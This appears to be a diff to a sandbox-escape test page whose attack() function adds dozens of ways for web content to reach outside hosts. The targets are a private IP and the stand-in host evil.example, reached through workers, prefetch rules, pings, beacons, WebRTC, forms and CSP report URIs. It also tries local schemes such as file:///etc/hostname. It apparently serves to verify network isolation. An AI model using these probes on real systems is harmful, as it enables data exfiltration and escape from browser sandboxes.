@@ -62,6 +62,31 @@ function attack() {
     quiet(() => new Worker(URL.createObjectURL(new Blob([`fetch("http://${host}/w"); new WebSocket("ws://${host}/w"); importScripts("http://${host}/w.js")`]))));
   }
   quiet(() => navigator.serviceWorker.register("sw.js"));
+  quiet(() => new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://10.66.0.9/shared")`]))));
+  quiet(() => new Worker(URL.createObjectURL(new Blob([`new RTCPeerConnection({iceServers: [{urls: "stun:10.66.0.9"}]}).createOffer(); navigator.sendBeacon("http://10.66.0.9/beacon")`]))));
+  for (const address of ["http://10.66.0.9/spec", "http://evil.example/spec"]) {
+    add("script", { type: "speculationrules", textContent: `{"prefetch": [{"source": "list", "urls": ["${address}"]}], "prerender": [{"source": "list", "urls": ["${address}"]}]}` });
+    add("img", { srcset: `${address} 2x`, loading: "eager" });
+    add("video", { poster: address });
+    add("body", { background: address });
+    add("link", { rel: "preconnect", href: address, crossOrigin: "" });
+    add("link", { rel: "search", href: address });
+    add("object", { data: address, type: "application/pdf" });
+    add("iframe", { srcdoc: `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}/"><img src=x>` });
+    add("form", { action: address, method: "get", innerHTML: "<input name=a value=b>" });
+    add("meta", { httpEquiv: "Content-Security-Policy-Report-Only", content: `img-src 'none'; report-uri ${address}` });
+    quiet(() => document.body.insertAdjacentHTML("beforeend", `<svg><image href="${address}"/><use href="${address}#a"/></svg>`));
+    quiet(() => fetch(address, { method: "POST", body: new FormData(), keepalive: true, mode: "no-cors", targetAddressSpace: "local" }));
+    quiet(() => navigator.registerProtocolHandler("web+x", `${address}?%s`));
+    quiet(() => { const made = document.createElement("a"); Object.assign(made, { href: address, ping: address, target: "_self", download: "" }); document.body.append(made); made.click(); });
+  }
+  for (const other of ["lesson://0123456789abcdef0123456789abcdef/index.html", "lesson://evil.example/", "file:///etc/hostname", "ftp://10.66.0.9/", "view-source:http://10.66.0.9/", "chrome://version", "qrc:/"]) {
+    quiet(() => fetch(other));
+    add("iframe", { src: other });
+    add("img", { src: other });
+    quiet(() => window.open(other));
+  }
+  document.querySelectorAll("form").forEach((form) => quiet(() => form.requestSubmit()));
   quiet(() => navigator.geolocation.getCurrentPosition(() => 0));
   quiet(() => navigator.mediaDevices.getUserMedia({ audio: true, video: true }));
   quiet(() => navigator.mediaDevices.getDisplayMedia());
